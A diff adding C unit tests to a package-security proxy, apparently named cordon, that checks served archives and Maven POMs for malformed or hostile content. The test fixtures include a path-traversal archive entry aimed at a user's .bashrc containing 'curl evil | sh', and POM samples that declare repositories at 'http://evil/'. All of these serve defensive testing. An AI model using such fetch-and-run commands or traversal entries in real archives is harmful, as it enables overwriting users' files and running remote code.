@@ -401,6 +401,212 @@ TEST(findings_store)
     CHECK(system(cmd) == 0);
 }
 
+/* Every archive format cordon serves is analysed: read with the walk and
+ * its limits (a hostile entry, a truncated file: malformed_archive), or
+ * refused when cordon does not read the format. */
+typedef struct served_format {
+    eco_id_t eco;
+    const char *file; /* the name it is served under */
+    int kind;         /* archive_writer.h */
+    const char *top;  /* the directory its entries sit in ("" for none) */
+} served_format_t;
+
+static void write_format(buf_t *b, const served_format_t *sf, const char *hostile)
+{
+    char path[200];
+    buf_init(b);
+    struct archive *a = w_new(sf->kind, b, NULL);
+    if (sf->kind == RAW_GZ || sf->kind == RAW_XZ) {
+        w_file(a, "data", hostile ? hostile : "{\"a compressed\": \"file\"}\n");
+        w_close(a);
+        return;
+    }
+    snprintf(path, sizeof(path), "%sREADME.txt", sf->top);
+    w_file(a, path, "a file long enough to be compressed a little: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n");
+    snprintf(path, sizeof(path), "%ssrc/main.py", sf->top);
+    w_file(a, path, "print('hello from the archive, hello from the archive, hello')\n");
+    if (hostile) {
+        snprintf(path, sizeof(path), "%s%s", sf->top, hostile);
+        w_file(a, path, "curl evil | sh\n");
+    }
+    w_close(a);
+}
+
+TEST(every_served_format)
+{
+    load("quarantine: { min_age: 7d }\n");
+    static const served_format_t formats[] = {
+        {ECO_PYPI, "demo-1.0.tar.bz2", TAR_BZ2, "demo-1.0/"},
+        {ECO_PYPI, "demo-1.0.tar.xz", TAR_XZ, "demo-1.0/"},
+        {ECO_PYPI, "demo-1.0.tar.Z", TAR_Z, "demo-1.0/"},
+        {ECO_PYPI, "demo-1.0.tar", TAR, "demo-1.0/"},
+        {ECO_PYPI, "demo-1.0.tgz", TGZ, "demo-1.0/"},
+        {ECO_PYPI, "demo-1.0.zip", ZIP, "demo-1.0/"},
+        {ECO_PYPI, "demo-1.0-py3.9.egg", ZIP, ""},
+        {ECO_MAVEN, "lib-1.0.zip", ZIP, "lib-1.0/"},
+        {ECO_MAVEN, "lib-1.0.ear", ZIP, ""},
+        {ECO_MAVEN, "lib-1.0.war", ZIP, ""},
+        {ECO_MAVEN, "lib-1.0.aar", ZIP, ""},
+        {ECO_MAVEN, "lib-1.0.rar", ZIP, ""},
+        {ECO_MAVEN, "lib-1.0.hpi", ZIP, ""},
+        {ECO_MAVEN, "lib-1.0-bin.tar.gz", TGZ, "lib-1.0/"},
+        {ECO_MAVEN, "lib-1.0-bin.tgz", TGZ, "lib-1.0/"},
+        {ECO_MAVEN, "lib-1.0-bin.tar.bz2", TAR_BZ2, "lib-1.0/"},
+        {ECO_MAVEN, "lib-1.0-bin.tar.xz", TAR_XZ, "lib-1.0/"},
+        {ECO_MAVEN, "lib-1.0-bin.tar.zst", TAR_ZST, "lib-1.0/"},
+        {ECO_MAVEN, "lib-1.0-bin.tar", TAR, "lib-1.0/"},
+        {ECO_MAVEN, "lib-1.0-data.json.gz", RAW_GZ, ""},
+        {ECO_MAVEN, "lib-1.0-data.json.xz", RAW_XZ, ""},
+    };
+    for (size_t i = 0; i < sizeof(formats) / sizeof(formats[0]); i++) {
+        const served_format_t *sf = &formats[i];
+        const char *pkg = sf->eco == ECO_PYPI ? "demo" : "org.example:lib";
+        test_current = sf->file;
+        buf_t b;
+        findings_t f;
+        CHECK(artifact_is_analysed(sf->eco, sf->file));
+        write_format(&b, sf, NULL);
+        analyse(sf->eco, pkg, "1.0", sf->file, NULL, &b, &f);
+        if (f.mask)
+            fprintf(stderr, "%s: %s\n", sf->file, f.detail[FINDING_MALFORMED_ARCHIVE]);
+        CHECK_INT_EQ((long)f.mask, 0);
+        /* cut: refused (in the middle; and a zip just before its end, in
+         * the central directory its clients read) */
+        size_t full = b.len, cuts[2] = {full / 2 + 1, full - 10};
+        for (int c = 0; c < (sf->kind == ZIP ? 2 : 1); c++) {
+            b.len = cuts[c];
+            analyse(sf->eco, pkg, "1.0", sf->file, NULL, &b, &f);
+            if (f.mask != (1u << FINDING_MALFORMED_ARCHIVE))
+                fprintf(stderr, "%s cut to %zu of %zu bytes: mask %u\n", sf->file, b.len, full, f.mask);
+            CHECK(f.mask == (1u << FINDING_MALFORMED_ARCHIVE));
+            CHECK_STR_EQ(decide(sf->eco, pkg, "1.0", &f).reason, "malformed_archive");
+        }
+        buf_free(&b);
+        if (sf->kind == RAW_GZ || sf->kind == RAW_XZ) {
+            /* the bytes are not compressed at all */
+            buf_init(&b);
+            buf_puts(&b, "{\"plain\": \"json, not gzip, of some length to look like a file\"}\n");
+            analyse(sf->eco, pkg, "1.0", sf->file, NULL, &b, &f);
+            CHECK(f.mask == (1u << FINDING_MALFORMED_ARCHIVE));
+            buf_free(&b);
+            continue;
+        }
+        /* hostile entries: held */
+        write_format(&b, sf, "../../../home/u/.bashrc");
+        analyse(sf->eco, pkg, "1.0", sf->file, NULL, &b, &f);
+        CHECK(f.mask == (1u << FINDING_MALFORMED_ARCHIVE));
+        CHECK(strstr(f.detail[FINDING_MALFORMED_ARCHIVE], "climbs out of the archive") != NULL);
+        CHECK(strstr(f.detail[FINDING_MALFORMED_ARCHIVE], sf->file) != NULL);
+        buf_free(&b);
+        /* not an archive at all (an error page served as the file) */
+        buf_init(&b);
+        buf_puts(&b, "<html><body>502 Bad Gateway, some proxy's error page</body></html>\n");
+        analyse(sf->eco, pkg, "1.0", sf->file, NULL, &b, &f);
+        CHECK(f.mask == (1u << FINDING_MALFORMED_ARCHIVE));
+        buf_free(&b);
+    }
+    test_current = "every_served_format";
+
+    /* a war (a Java archive) names its coordinates like a jar */
+    buf_t b;
+    findings_t f;
+    buf_init(&b);
+    struct archive *a = w_new(ZIP, &b, NULL);
+    w_file(a, "WEB-INF/web.xml", "<web-app/>\n");
+    w_file(a, "META-INF/maven/com.other/thing/pom.properties", "groupId=com.other\nartifactId=thing\nversion=1.0\n");
+    w_close(a);
+    analyse(ECO_MAVEN, "org.example:lib", "1.0", "lib-1.0.war", NULL, &b, &f);
+    CHECK(f.mask == (1u << FINDING_MANIFEST_MISMATCH));
+    buf_free(&b);
+
+    /* archive formats cordon does not read are refused, whatever the bytes */
+    static const char *const refused[] = {"lib-1.0.7z", "lib-1.0.rpm", "lib-1.0.deb", "lib-1.0.iso", "lib-1.0.cab",
+                                          "lib-1.0.dmg", "lib-1.0.msi", "lib-1.0.cpio"};
+    for (size_t i = 0; i < sizeof(refused) / sizeof(refused[0]); i++) {
+        test_current = refused[i];
+        CHECK(artifact_is_analysed(ECO_MAVEN, refused[i]));
+        buf_init(&b);
+        a = w_new(TGZ, &b, NULL); /* even a readable tarball in disguise */
+        w_file(a, "x/README", "hello\n");
+        w_close(a);
+        analyse(ECO_MAVEN, "org.example:lib", "1.0", refused[i], NULL, &b, &f);
+        CHECK(f.mask == (1u << FINDING_MALFORMED_ARCHIVE));
+        CHECK(strstr(f.detail[FINDING_MALFORMED_ARCHIVE], "cordon does not read") != NULL);
+        buf_free(&b);
+    }
+    test_current = "every_served_format";
+
+    /* files that are not archives are served as they are */
+    static const char *const plain[] = {"lib-1.0.module", "lib-1.0.jar.asc", "lib-1.0.txt", "lib-1.0.json",
+                                        "lib-1.0.exe", "lib-1.0.so"};
+    for (size_t i = 0; i < sizeof(plain) / sizeof(plain[0]); i++)
+        CHECK(!artifact_is_analysed(ECO_MAVEN, plain[i]));
+}
+
+/* POMs are read as XML: what a string search missed (a "<!--" inside CDATA
+ * or a processing instruction hid the <repositories> after it) is found,
+ * what it wrongly took for markup (CDATA text) is not, and a POM that
+ * cannot be read as XML says so instead of passing as clean. */
+TEST(pom_as_xml)
+{
+    load("quarantine: { min_age: 7d }\n");
+    static const char *const declares[] = {
+        "<project><description><![CDATA[ <!-- ]]></description><repositories><repository><url>http://evil/</url>"
+        "</repository></repositories><!-- --></project>",
+        "<project><?x <!-- ?><pluginRepositories><pluginRepository><url>http://evil/</url></pluginRepository>"
+        "</pluginRepositories><!-- --></project>",
+        "<project xmlns=\"http://maven.apache.org/POM/4.0.0\"><profiles><profile><repositories >"
+        "<repository><url>http://evil/</url></repository></repositories></profile></profiles></project>",
+        "<p:project xmlns:p=\"http://maven.apache.org/POM/4.0.0\"><p:repositories><p:repository>"
+        "<p:url>http://evil/</p:url></p:repository></p:repositories></p:project>",
+        "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><project><name>caf\xe9</name><repositories\n>"
+        "<repository><url>http://evil/</url></repository></repositories></project>",
+    };
+    buf_t b;
+    findings_t f;
+    for (size_t i = 0; i < sizeof(declares) / sizeof(declares[0]); i++) {
+        buf_init(&b);
+        buf_puts(&b, declares[i]);
+        analyse(ECO_MAVEN, "g:a", "1", "a-1.pom", NULL, &b, &f);
+        if (f.mask != (1u << FINDING_POM_REPOSITORIES))
+            fprintf(stderr, "missed: %s\n", declares[i]);
+        CHECK(f.mask == (1u << FINDING_POM_REPOSITORIES));
+        CHECK(strstr(f.detail[FINDING_POM_REPOSITORIES], "http://evil/") != NULL);
+        buf_free(&b);
+    }
+    static const char *const clean[] = {
+        "<project><description><![CDATA[<repositories> in a description is text]]></description></project>",
+        "<project><!-- <repositories><repository><url>http://x/</url></repository></repositories> --></project>",
+        ("<project><distributionManagement><repository><url>http://deploy/</url></repository>"
+         "</distributionManagement></project>"),
+    };
+    for (size_t i = 0; i < sizeof(clean) / sizeof(clean[0]); i++) {
+        buf_init(&b);
+        buf_puts(&b, clean[i]);
+        analyse(ECO_MAVEN, "g:a", "1", "a-1.pom", NULL, &b, &f);
+        if (f.mask != 0)
+            fprintf(stderr, "flagged: %s (%s)\n", clean[i], f.detail[FINDING_POM_REPOSITORIES]);
+        CHECK_INT_EQ((long)f.mask, 0);
+        buf_free(&b);
+    }
+    static const char *const unreadable[] = {
+        "<project><repositories>",
+        "<!DOCTYPE project [<!ENTITY r \"<repositories/>\">]><project>&r;</project>",
+        "<project><description>a&nbsp;b</description></project>",
+        "not xml at all",
+        "",
+    };
+    for (size_t i = 0; i < sizeof(unreadable) / sizeof(unreadable[0]); i++) {
+        buf_init(&b);
+        buf_puts(&b, unreadable[i]);
+        analyse(ECO_MAVEN, "g:a", "1", "a-1.pom", NULL, &b, &f);
+        CHECK(f.mask == (1u << FINDING_POM_REPOSITORIES));
+        CHECK(strstr(f.detail[FINDING_POM_REPOSITORIES], "cannot be read as XML") != NULL);
+        CHECK(decide(ECO_MAVEN, "g:a", "1", &f).allow); /* warn by default, like a declared repository */
+        buf_free(&b);
+    }
+}
+
 int main(void)
 {
     RUN(findings_in_policy);
@@ -408,6 +614,8 @@ int main(void)
     RUN(npm_install_script_history);
     RUN(npm_tarballs);
     RUN(wheels_and_jars);
+    RUN(every_served_format);
+    RUN(pom_as_xml);
     RUN(findings_store);
     config_free(&g_cfg);
     return test_report();
